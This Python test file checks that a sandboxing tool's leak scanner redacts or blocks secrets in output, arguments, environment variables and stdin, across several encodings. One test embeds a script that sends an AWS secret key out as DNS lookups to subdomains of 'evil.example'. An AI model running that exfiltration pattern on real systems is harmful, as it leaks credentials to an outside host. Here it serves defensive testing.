# SPDX-License-Identifier: Apache-2.0
"""The leak scanner in runs: arguments, output, records."""
import base64
import collections
import binascii
import json
import os
import time
import urllib.parse

from harness import PATIENCE, check, contains, equal, wait_until
from terminal import Terminal

LEVELS = ("full", "standard")

# Synthetic: the checksum is right, the token never existed.
BODY = "16C7e42F292c6912E7710c838347Ae17"


def base62(number):
    digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    text = ""
    while number:
        number, rest = divmod(number, 62)
        text = digits[rest] + text
    return text.rjust(6, "0")


def github_token(body=BODY):
    body = (body * 2)[:30]
    return f"ghp_{body}{base62(binascii.crc32(body.encode()))}"


TOKEN = github_token()
KIND = "github-token"


def views(token):
    """How a program may print it."""
    yield "raw", token
    yield "url", urllib.parse.quote(token, safe="").replace("_", "%5F").replace("g", "%67", 1)
    yield "base64", base64.b64encode(f"k={token}".encode()).decode()
    yield "hex", token.encode().hex()
    yield "json", token.replace("_", "\\u005f")


def outputs(test, level):
    @test(f"a secret in the output of a tool call is redacted, in every encoding, at level {level}", root=True)
    def _(box):
        for view, text in views(TOKEN):
            box.write("ws/secret", f"before {text} after\n")
            result = box.json("--level", level, "--", "cat", "secret")
            contains(result["stdout"], "before ", f"{view}: before it")
            contains(result["stdout"], " after\n", f"{view}: after it")
            check(text not in result["stdout"], f"{view}: {result['stdout']!r}")
            contains(result["stdout"], "[redacted:", view)
            leaks = result["leaks"]
            equal([leak["stream"] for leak in leaks], ["stdout"], f"{view}: {leaks}")
            equal((leaks[0]["action"], leaks[0]["view"]), ("redacted", view), f"{leaks}")
            check(7 <= leaks[0]["offset"] <= 10, f"{view}: where it begins: {leaks}")
            check(TOKEN not in json.dumps(result) and TOKEN[:12] not in json.dumps(result), f"{view}: the result has it")
            equal(result["leaks_scanned"], True, view)
            plain = box.json("--level", level, "--scan-output", "off", "--", "cat", "secret")
            equal(plain["stdout"], f"before {text} after\n", f"{view}: the twin without the scanner")
            equal(plain["leaks_scanned"], False, view)


def register(suite):
    test = suite.test
    for level in LEVELS:
        outputs(test, level)

    @test("a person's streams pass byte for byte, with a warning on stderr", root=True)
    def _(box):
        box.write("ws/secret", f"{TOKEN}\n")
        done = box.run("--scan-output", "warn", "--", "cat", "secret")
        equal(done.out, f"{TOKEN}\n", "stdout")
        contains(done.err, "the leak scanner found", "the warning")
        check(TOKEN not in done.err, f"the warning has the value: {done.err!r}")
        for words in (["--scan-output", "off"], []):  # by default only a terminal is scanned
            quiet = box.run(*words, "--", "cat", "secret")
            equal((quiet.out, quiet.err), (f"{TOKEN}\n", ""), f"{words}")
        terminal = Terminal(box, [box.corral, "run", "--", "cat", "secret"])
        terminal.expect(TOKEN)
        terminal.expect("the leak scanner found")
        terminal.process.wait(PATIENCE)

    @test("--scan-output redact, block and kill")
    def _(box):
        box.write("ws/secret", f"before {TOKEN} after\n")
        script = "cat secret; echo more; echo err >&2; touch ran"
        done = box.run("--scan-output", "redact", "-c", script)
        check(TOKEN not in done.out and done.out.startswith("before [redacted:") and done.out.endswith("] after\nmore\n"), done.out)
        done = box.run("--scan-output", "block", "-c", script)
        equal((done.status, done.out), (0, "before "), "block")
        contains(done.err, "err\n", "the other stream")
        os.unlink(f"{box.ws}/ran")
        result = box.json("--scan-output", "kill", "-c", "cat secret; sleep 60; touch ran")
        equal((result["reason"], result["stdout"]), ("leak", "before "), "kill")
        check(not os.path.exists(f"{box.ws}/ran"), "the command went on")
        equal(box.run("--scan-output", "kill", "-c", "cat secret").status, 126, "the status")

    @test("a secret in the arguments of a tool call: nothing runs, status 126, reason leak", root=True)
    def _(box):
        done = box.run("--json", "-c", f"touch ran; echo {TOKEN}")
        equal((done.status, done.json["reason"]), (126, "leak"), done.out)
        check(TOKEN not in done.out + done.err, "the message has the value")
        check(not os.path.exists(f"{box.ws}/ran"), "it ran")
        equal([(leak["stream"], leak["action"]) for leak in done.json["leaks"]], [("arguments", "blocked")], "its leaks")
        records = [json.loads(line) for line in box.corral_("audit", "list", "--json").exited(0).out.splitlines()]
        kinds = [r["kind"] for r in records if r["id"] == done.json["id"]]
        equal((kinds, done.json["audited"]), (["leak", "run"], True), "the records, and the result about them")
        done = box.run("--json", "--env", f"X={TOKEN}", "--", "touch", "ran")
        equal((done.status, done.json["reason"]), (126, "leak"), "a variable of --env")
        result = box.json("--scan-args", "warn", "-c", f"touch ran; : {TOKEN}")
        equal([(leak["stream"], leak["action"]) for leak in result["leaks"]], [("arguments", "warned")], "warn")
        check(os.path.exists(f"{box.ws}/ran"), "it did not run")
        done = box.run("-c", f": {TOKEN}")
        equal(done.status, 0, "a person is warned")
        contains(done.err, "arguments", "the warning")

    @test("a passed variable is scanned unless its name is a known secret's", root=True)
    def _(box):
        box.env.update(NOTE=f"see {TOKEN}", GITHUB_TOKEN=TOKEN, PLAIN="nothing to see in here")
        done = box.run("--json", "--pass-env", "NOTE", "--", "touch", "ran")
        equal((done.status, done.json["reason"]), (126, "leak"), done.out)
        contains(done.json["error"]["message"], "the variable NOTE contains a secret", "the message")
        check(TOKEN not in done.out + done.err and not os.path.exists(f"{box.ws}/ran"), f"it ran, or shows the value: {done.out}")
        result = box.json("--pass-env", "NOTE", "--scan-args", "warn", "--", "touch", "ran")
        equal([(leak["stream"], leak["action"]) for leak in result["leaks"]], [("environment", "warned")], "warn")
        for words in (("--pass-env", "GITHUB_TOKEN"), ("--pass-env", "PLAIN"), ()):
            result = box.json(*words, "-c", "echo ${GITHUB_TOKEN:+token} $PLAIN")
            equal((result["exit_code"], result["leaks"]), (0, []), f"{words}")

    @test("a secret in a name that the command looks up is not in the records", root=True)
    def _(box):
        value = "Correct0Horse1Battery2Staple3"
        box.env["AWS_SECRET_ACCESS_KEY"] = value
        look_up = ("import os, socket\nv = os.environ['AWS_SECRET_ACCESS_KEY']\n"
                   "for name in (v, v[:9] + '.' + v[9:], v.encode().hex(), 'plain'):\n"
                   "    try:\n        socket.getaddrinfo(name + '.evil.example', 80)\n    except OSError:\n        pass\n")
        words = ("--allow-host", "a.example", "--pass-env", "AWS_SECRET_ACCESS_KEY")
        for more in ((), ("--scan-output", "off", "--scan-net", "block")):
            result = box.json(*words, *more, "--", "/usr/bin/python3", "-c", look_up)
            text = json.dumps({"network": result["network"], "denials": result["denials"], "hint": result["hint"]}).lower()
            contains(text, "redacted", f"{more}")
            contains(text, "plain.evil.example", f"{more}: other names stay")
            for trace in (value[:12].lower(), value[9:].lower(), value.encode().hex()[:24]):
                check(trace not in text, f"{more}: {trace} in {text}")
        result = box.json(*words, "--scan-output", "off", "--", "/usr/bin/python3", "-c", look_up)
        contains(json.dumps(result["network"]), value.lower(), "the control without the scanner")

    @test("corral ps shows a command line without its secrets", root=True)
    def _(box):
        script = f": {TOKEN}; touch ready; while [ ! -e go ]; do sleep 0.02; done"
        quiet = ["--scan-args", "off", "--scan-output", "off"]
        for words in ([], quiet, [*quiet, "--set", "audit.enabled=false"]):
            process = box.start([box.corral, "run", *words, "-c", script])
            check(wait_until(lambda: box.exists("ws/ready")), "the run has not begun")
            shown = box.corral_("ps").exited(0).out
            state = box.sh("find \"$HOME\" -type f -exec cat {} +").out
            box.write("ws/go", "")
            process.communicate(timeout=PATIENCE)
            state += box.sh("find \"$HOME\" -type f -exec cat {} +").out
            contains(shown, "[redacted:github-token]", f"{words}: the list")
            check(TOKEN[:12] not in shown, shown)
            check("touch ready" in state and TOKEN[:12] not in state, f"{words}: the state has the value, or no record")
            os.unlink(f"{box.ws}/go")
            os.unlink(f"{box.ws}/ready")

    @test("a secret in stdin of a tool call does not reach the command, other input does", root=True)
    def _(box):
        script = "cat >got; sleep 1; touch ran"
        for place, plain in (("pipe", True), ("file", True), ("pipe", False), ("file", False)):
            text = f"first line\n{'plain' if plain else TOKEN}\n" * 3
            box.write("input", text)
            source = f"cat {box.dir}/input |" if place == "pipe" else ""
            target = "" if place == "pipe" else f"<{box.dir}/input"
            done = box.sh(f"{source} \"$CORRAL\" run --json --stdin -c '{script}' {target}")
            got = box.read("ws/got") if os.path.exists(f"{box.ws}/got") else ""
            if plain:
                equal((done.status, got, done.json["leaks"]), (0, text, []), f"{place}: plain input")
                os.unlink(f"{box.ws}/ran")
            else:
                equal((done.status, done.json["reason"]), (126, "leak"), f"{place}: {done.out}")
                check(TOKEN not in got and TOKEN[:10] not in got, f"{place}: {got!r}")
                equal([leak["stream"] for leak in done.json["leaks"]], ["stdin"], place)
                check(not os.path.exists(f"{box.ws}/ran"), "it went on")

    @test("after a secret in stdin the command sees no end of its input, and the reason is leak", root=True)
    def _(box):
        box.write("input", f"delete everything but\n{TOKEN}\n")
        for level in LEVELS:
            done = box.sh(f'"$CORRAL" run --level {level} --json --stdin -c "cat; touch went-on" <{box.dir}/input')
            equal((done.status, done.json["reason"]), (126, "leak"), f"{level}: {done.out}")
            check(not box.exists("ws/went-on"), f"{level}: the command acted on a part of its input")

    @test("colours and the signs of a patch do not hide a secret", root=True)
    def _(box):
        box.write("ws/coloured", f"a \x1b[01;31m\x1b[K{TOKEN}\x1b[m\x1b[K b\n-{TOKEN}\n+{TOKEN}\n\x1b[32m+\x1b[m\x1b[32m{TOKEN}\n")
        out = box.json("--", "cat", "coloured")["stdout"]
        check(TOKEN not in out, out)
        equal(out.count("[redacted:"), 4, out)

    @test("a hint does not repeat a secret that the output has", root=True)
    def _(box):
        box.write("ws/secret", TOKEN)
        result = box.json("-c", 'cat "/srv/$(cat secret)"')
        check(TOKEN not in json.dumps(result), json.dumps(result))
        result = box.json("--scan-output", "off", "-c", 'cat "/srv/$(cat secret)"')
        check(TOKEN in result["stderr"], "the twin: it was in the output")

    @test("a key of the scanner that others can read stops a run that redacts", root=True)
    def _(box):
        key = box.write("home/.config/corral/leak.key", "k" * 32, 0o644)
        done = box.run("--scan-output", "redact", "--", "touch", "ran").exited(126)
        contains(done.err, "leak.key", "the message")
        check(not box.exists("ws/ran"), "it ran")
        os.chmod(key, 0o600)
        box.run("--scan-output", "redact", "--", "touch", "ran").exited(0)

    @test("the value of a passed variable with a secret's name is redacted, whatever its form", root=True)
    def _(box):
        box.env["DATABASE_PASSWORD"] = box.env["PLAIN_NAME"] = "correct-horse-7"
        box.env["AWS_SECRET_ACCESS_KEY"] = "correct-horse-7"
        result = box.json("--pass-env", "AWS_SECRET_ACCESS_KEY", "-c",
                          'echo "$AWS_SECRET_ACCESS_KEY"; printf %s "xx$AWS_SECRET_ACCESS_KEY/longer" | base64')
        check("correct-horse-7" not in json.dumps(result), result["stdout"])
        check(base64.b64encode(b"xxcorrect-horse-7/longer").decode() not in result["stdout"], result["stdout"])
        equal({leak["kind"] for leak in result["leaks"]}, {"AWS_SECRET_ACCESS_KEY"}, "the kind is the variable")
        result = box.json("--pass-env", "PLAIN_NAME", "-c", 'echo "$PLAIN_NAME"')
        equal(result["stdout"], "correct-horse-7\n", "the twin: a name that is no secret's")

    @test("a value that the run got is found backwards: by lines, encoded, in pieces; a palindrome once", root=True)
    def _(box):
        value, lines, same = "tr0ub4dor-and-more-3", "first-line-1\nsecond-line-2\n", "12345654321"
        for name, text in (("DEPLOY", value), ("LINES", lines), ("SAME", same)):
            box.corral_("secret", "set", name, stdin=text.encode()).exited(0)
        script = ('printf "%s\\n" "$DEPLOY" | rev; printf %s "$LINES" | rev; echo; printf %s "$DEPLOY" | rev | base64; echo "$SAME"; '
                  'for c in $(printf "%s\\n" "$DEPLOY" | rev | sed "s/./& /g"); do printf %s "$c"; done; echo; echo "$FREE" | rev')
        for level in LEVELS:
            result = box.json("--level", level, "--secret", "DEPLOY", "--secret", "LINES", "--secret", "SAME", "--env", "FREE=not-a-secret-at-all",
                              "-c", script)
            encoded = base64.b64encode(value[::-1].encode()).decode()
            for text in (value[::-1], "1-enil-tsrif", "2-enil-dnoces", encoded, same):
                check(text not in json.dumps(result), f"{level}: {text} in {result['stdout']}")
            contains(result["stdout"], "lla-ta-terces-a-ton", "the twin: a value that is no secret")
            found = collections.Counter()
            for leak in result["leaks"]:
                found[leak["kind"]] += leak["count"]
            equal(found, {"DEPLOY": 3, "LINES": 2, "SAME": 1}, "findings")

    @test("a secret of the vault is redacted in the output of the run that gets it", root=True)
    def _(box):
        value = "tr0ub4dor-and-3"
        box.corral_("secret", "set", "DEPLOY", stdin=value.encode()).exited(0)
        for level in LEVELS:
            result = box.json("--level", level, "--secret", "DEPLOY", "-c", 'echo "it is $DEPLOY"; printf %s "$DEPLOY" | od -An -c')
            check(value not in json.dumps(result), result["stdout"])
            contains(result["stdout"], "it is [redacted:DEPLOY]", level)
            equal([leak["kind"] for leak in result["leaks"]], ["DEPLOY"], level)
        box.corral_("secret", "set", "LINES", stdin=b"first-line-of-it\nsecond-line-of-it\n").exited(0)
        result = box.json("--secret", "LINES", "-c", 'printf "[%s]\\n" "$LINES"; printf %s "$LINES" | tail -n 1 | sed "s/^/> /"')
        check("line-of-it" not in result["stdout"], result["stdout"])
        result = box.json("--secret", "DEPLOY", "--scan-output", "off", "-c", 'echo "$DEPLOY"')
        equal(result["stdout"], value + "\n", "the twin without the scanner")

    @test("with redact a prompt without a newline appears at once, and a secret that comes in pieces does not")
    def _(box):
        box.write("ws/slow.sh", f"printf 'Password: '; until test -e go; do sleep 0.02; done; printf '{TOKEN[:20]}'; "
                                f"printf '{TOKEN[20:]}\\n'\n")
        process = box.start([box.corral, "run", "--scan-output", "redact", "--", "sh", "slow.sh"])
        began = time.monotonic()
        seen = os.read(process.stdout.fileno(), 100).decode()
        check(time.monotonic() - began < PATIENCE, "the prompt was late")
        equal(seen, "Password: ", "the prompt")
        box.write("ws/go", "")
        rest = process.communicate(timeout=PATIENCE)[0].decode()
        check(TOKEN not in rest and "[redacted:" in rest, rest)

    @test("a form that the scanner does not decode passes, as the threat model says")
    def _(box):
        box.write("ws/secret", TOKEN[::-1] + "\n")
        result = box.json("--", "cat", "secret")
        equal((result["stdout"], result["leaks"]), (TOKEN[::-1] + "\n", []), "backwards")

    @test("a project file may make the scanner stricter, and not laxer")
    def _(box):
        box.write("ws/secret", f"{TOKEN}\n")
        box.write("ws/.corral.toml", '[scan]\noutput = "kill"\n')
        equal(box.json("--", "cat", "secret")["reason"], "leak", "stricter")
        box.write("ws/.corral.toml", '[scan]\noutput = "off"\n')
        equal(box.run("--json", "--", "cat", "secret").status, 126, "laxer")

    @test("--require leaks refuses a run whose output is only watched")
    def _(box):
        equal(box.run("--require", "leaks", "--", "true").status, 125, "a person's default")
        equal(box.run("--require", "leaks", "--scan-output", "redact", "--", "true").status, 0, "redact")
        equal(box.run("--require", "leaks", "--json", "--", "true").status, 0, "a tool call")
